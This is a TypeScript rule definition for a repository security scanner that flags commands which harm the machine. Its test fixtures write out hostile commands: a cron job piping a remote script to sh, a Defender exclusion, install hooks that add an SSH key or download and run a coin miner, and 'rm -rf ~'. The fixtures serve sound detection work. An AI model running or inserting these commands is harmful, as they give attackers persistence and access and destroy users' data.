import { defineRule } from '../../rule.ts';
import { commandHits } from './commandHits.ts';

export const harmfulCommand = defineRule({
  id: 'harmful-command',
  title: 'Runs a command that harms the machine',
  severity: 'critical',
  confidence: 'medium',
  category: 'code',
  applies: 'repository',
  cwe: 'CWE-506',
  references: ['https://attack.mitre.org/techniques/T1098/004/', 'https://attack.mitre.org/techniques/T1562/001/'],
  why: 'Lasting access, protection that is switched off, deleted files and mined currency serve whoever wrote the command, at the cost of whoever runs it.',
  remedy: 'Do not run it. If it ran, look for keys, tasks and exclusions that it left behind.',
  check: (facts) =>
    commandHits(facts, {
      'adds-key': 'ssh-key-added',
      'starts-always': 'download-started-always',
      'lowers-guard': 'protection-software-off',
      wipes: 'deletes-everything',
      mines: 'names-miner',
    }),
  examples: {
    bad: [
      { files: { 'i.sh': '(crontab -l; echo "*/5 * * * * curl -s https://u.dev/u | sh") | crontab -\n' } },
      { files: { 'i.ps1': 'Add-MpPreference -ExclusionPath $env:TEMP\n' } },
      {
        files: {
          'package.json': '{"name":"a","scripts":{"postinstall":"sh i.sh"}}',
          'i.sh': 'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDx me@host" >> ~/.ssh/authorized_keys\n',
        },
      },
      {
        files: {
          'package.json':
            '{"name":"a","scripts":{"preinstall":"curl -o m https://p.dev/xmrig && chmod +x m && ./m -o stratum+tcp://p.dev:4444"}}',
        },
      },
      { files: { '.envrc': 'rm -rf ~\n' } },
    ],
    good: [
      { files: { 'i.sh': '(crontab -l; echo "0 3 * * * /usr/local/bin/backup") | crontab -\n' } },
      { files: { 'i.sh': 'cat key.pub >> ~/.ssh/authorized_keys\nrm -rf ~/.cache/a /var/lib/apt/lists/*\n' } },
      { files: { 'i.sh': 'reg query "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"\n' } },
      { files: { 'mine.sh': './xmrig -o pool.example:4444\n' } },
    ],
  },
});
